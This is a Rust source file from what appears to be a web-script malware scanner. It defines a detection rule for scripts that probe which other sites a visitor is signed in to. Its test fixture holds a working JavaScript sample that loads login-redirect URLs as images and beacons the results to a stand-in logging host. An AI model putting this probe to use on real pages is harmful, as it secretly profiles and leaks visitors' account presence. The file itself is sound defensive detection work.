//! `sign-ins-probed`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "sign-ins-probed",
    description: "The script tests which other sites the visitor is signed in to and sends the result.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Unanswered])],
    within: 0,
    only_if: Some(probes),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var t=['https://a.example/login?next=%2Ffavicon.ico','https://b.example/signin?continue=%2Flogo.png','https://c.example/account/redirect?u=%2Fi.gif'],s={};t.forEach(function(u,n){var i=new Image();i.onload=function(){s[n]=1;send()};i.onerror=function(){s[n]=0;send()};i.src=u});function send(){navigator.sendBeacon('https://log.example/s',JSON.stringify(s))}",
        ],
        without: &[
            "var t=['https://a.example/1.png','https://b.example/2.png','https://c.example/3.png'];t.forEach(function(u){var i=new Image();i.onload=done;i.onerror=done;i.src=u})",
            "var links=['https://a.example/login','https://b.example/signin'];logo.onerror=function(){logo.src='/logo.png'}",
        ],
    },
};

/// Whether pictures of addresses of several sites that only lead on who is signed in are waited for, both ways.
fn probes(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 180);
    if !near.has_fact(&[Atom::Image])
        || !near.has_word(&["onload"])
        || !near.has_word(&["sendBeacon", "fetch", "Image", "send"])
    {
        return false;
    }
    let asks = |at: &usize| {
        let text = near.word(*at);
        matches!(near.kind(*at), Some(Kind::Str | Kind::Template))
            && text.starts_with("http")
            && ["login", "signin", "sign_in", "/account", "continue=", "next=", "redirect"]
                .iter()
                .any(|word| text.contains(word))
    };
    near.places().filter(asks).count() >= 3
}
